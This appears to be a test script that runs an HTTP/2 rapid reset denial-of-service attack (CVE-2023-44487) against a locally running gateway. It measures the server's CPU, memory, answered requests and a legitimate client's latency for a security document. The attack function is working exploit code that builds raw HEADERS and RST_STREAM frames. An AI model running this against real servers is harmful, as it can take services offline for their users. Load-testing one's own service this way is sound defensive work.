#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487) against a running wa-gateway: each
of CONNS connections sends, for SECONDS, HEADERS (GET status, END_STREAM)
immediately followed by RST_STREAM, as fast as the socket takes them, while
a legitimate client asks for the status every 100 ms on its own connection.
Prints what the server did: the requests it answered (wagw_requests_total
for status), its CPU share (/proc/PID/stat), its RSS before and after, the
legitimate client's latencies, and whether the attack connections were
closed. Debian's libh2o 2.2.5 has no fix for this attack; the figures feed
docs/security.md. Usage: rapid_reset.py PORT PID [SECONDS] [CONNS]."""
import http.client, os, socket, struct, sys, threading, time

port, pid = int(sys.argv[1]), int(sys.argv[2])
SECONDS = float(sys.argv[3]) if len(sys.argv) > 3 else 5
CONNS = int(sys.argv[4]) if len(sys.argv) > 4 else 4


def frame(t, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload


def lit(k, v):
    return b"\x00" + bytes([len(k)]) + k + bytes([len(v)]) + v


HDR = lit(b":method", b"GET") + lit(b":scheme", b"http") + lit(b":path", b"/api/whatsapp/status") \
    + lit(b":authority", b"127.0.0.1:%d" % port)


def status_count():
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    c.request("GET", "/metrics")
    n = 0
    for line in c.getresponse().read().decode().splitlines():
        if line.startswith('wagw_requests_total{transport="http",route="status"'):
            n += int(line.split()[-1])
    c.close()
    return n


def cpu_s():
    f = open("/proc/%d/stat" % pid).read().rsplit(")", 1)[1].split()
    return (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")


def rss_kb():
    for line in open("/proc/%d/status" % pid):
        if line.startswith("VmRSS:"):
            return int(line.split()[1])


sent = [0] * CONNS
closed = [False] * CONNS
stop = time.time() + SECONDS


def attack(i):
    s = socket.create_connection(("127.0.0.1", port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    s.setblocking(False)
    sid = 1
    batch = 50
    while time.time() < stop and sid < 2 ** 31 - 2 * batch:
        buf = b""
        for _ in range(batch):
            buf += frame(1, 0x5, sid, HDR) + frame(3, 0, sid, struct.pack(">I", 8))  # CANCEL
            sid += 2
        try:
            s.setblocking(True)
            s.settimeout(2)
            s.sendall(buf)
            sent[i] += batch
        except OSError:
            closed[i] = True
            break
        try:  # drain what the server answers (SETTINGS, HEADERS, GOAWAY)
            s.setblocking(False)
            while s.recv(1 << 20):
                pass
        except BlockingIOError:
            pass
        except OSError:
            closed[i] = True
            break
    s.close()


def legit(out):
    """The legitimate client, in its own process (no GIL shared with the
    attack threads): a status request every 100 ms."""
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    while time.time() < stop:
        t0 = time.time()
        try:
            c.request("GET", "/api/whatsapp/status")
            c.getresponse().read()
            out.send((time.time() - t0) * 1000)
        except OSError:
            out.send(float("inf"))
            c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        time.sleep(0.1)
    out.send(None)


import multiprocessing
n0, c0, r0, t0 = status_count(), cpu_s(), rss_kb(), time.time()
rx, tx = multiprocessing.Pipe(False)
lp = multiprocessing.Process(target=legit, args=(tx,))
lp.start()
ths = [threading.Thread(target=attack, args=(i,)) for i in range(CONNS)]
for t in ths:
    t.start()
for t in ths:
    t.join()
lat = []
while True:
    v = rx.recv()
    if v is None:
        break
    lat.append(v)
lp.join()
wall = time.time() - t0
n1, c1, r1 = status_count(), cpu_s(), rss_kb()
lat.sort()
answered = n1 - n0 - len(lat) - 1
print("rapid reset: %d connections, %.1f s" % (CONNS, wall))
print("  HEADERS+RST_STREAM sent: %d (%.0f/s)" % (sum(sent), sum(sent) / wall))
print("  status requests the server processed: %d (%.0f/s)" % (answered, answered / wall))
print("  server CPU share: %.2f" % ((c1 - c0) / wall))
print("  server RSS: %d -> %d kB" % (r0, r1))
print("  legitimate client: %d requests, p50 %.1f ms, max %.1f ms" %
      (len(lat), lat[len(lat) // 2] if lat else -1, lat[-1] if lat else -1))
print("  attack connections closed by the server: %d of %d" % (sum(closed), CONNS))
